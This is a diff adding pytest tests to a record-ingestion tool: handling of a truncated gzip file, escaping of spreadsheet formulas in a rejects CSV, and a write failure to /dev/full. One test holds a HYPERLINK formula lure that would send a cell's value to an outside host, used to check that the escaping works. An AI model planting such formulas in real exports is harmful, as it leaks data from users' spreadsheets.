@@ -1,6 +1,7 @@
 """Every record that is handed in is accounted for."""
 
 import csv
+import gzip
 import json
 from collections.abc import Iterator
 from pathlib import Path
@@ -62,6 +63,34 @@ def test_every_record_meets_exactly_one_end(matcher: Matcher, tmp_path: Path) ->
     assert _counts(report) == {"unchanged": 1, "updated": 1, "accepted": 1, "duplicate": 1, "rejected": 2}
     assert report.records == 6
     assert (matcher.count(Kind.PROFILE), matcher.count(Kind.POSTING)) == (3, 1)
+
+
+def test_a_file_that_cannot_be_read_is_told_from_a_record_that_cannot(matcher: Matcher, tmp_path: Path) -> None:
+    damaged = tmp_path / "damaged.jsonl.gz"
+    damaged.write_bytes(gzip.compress(json.dumps(_profile("ana")).encode())[:-4])
+    table = _file(tmp_path / "table.csv", "id,headline,zodiac", "bob,Juriste,lion")
+    records = _file(tmp_path / "records.jsonl", {"id": "cam"}, _profile("dan"))
+    report = ingest_files(matcher, [damaged, table, records])
+    assert (report.outcomes[Outcome.REJECTED], report.unread) == (3, 2)
+
+
+def test_no_cell_of_the_rejects_is_a_formula(matcher: Matcher, tmp_path: Path) -> None:
+    rejects = tmp_path / "rejects.csv"
+    lure = '=HYPERLINK("https://example.org?"&A1)'
+    files = [_file(tmp_path / "a.jsonl", {"id": lure}), _file(tmp_path / "b.csv", f"id,headline,{lure.upper()[:9]}")]
+    ingest_files(matcher, files, rejects=rejects)
+    with rejects.open(encoding="utf-8", newline="") as stream:
+        rows = list(csv.DictReader(stream))
+    assert [row["record_id"] for row in rows] == [f"'{lure}", ""]
+    assert [row["field"] for row in rows] == ["", "'=HYPERLIN"]
+
+
+def test_rejects_that_cannot_be_written_are_named(matcher: Matcher, tmp_path: Path) -> None:
+    if not Path("/dev/full").exists():
+        pytest.skip("there is no /dev/full here")
+    with pytest.raises(OSError, match="No space left") as told:
+        ingest_files(matcher, [_file(tmp_path / "a.jsonl", {"id": "x"})], rejects=Path("/dev/full"))
+    assert told.value.filename == "/dev/full"
 
 
 def test_of_two_versions_in_one_file_the_last_wins(matcher: Matcher, tmp_path: Path) -> None:
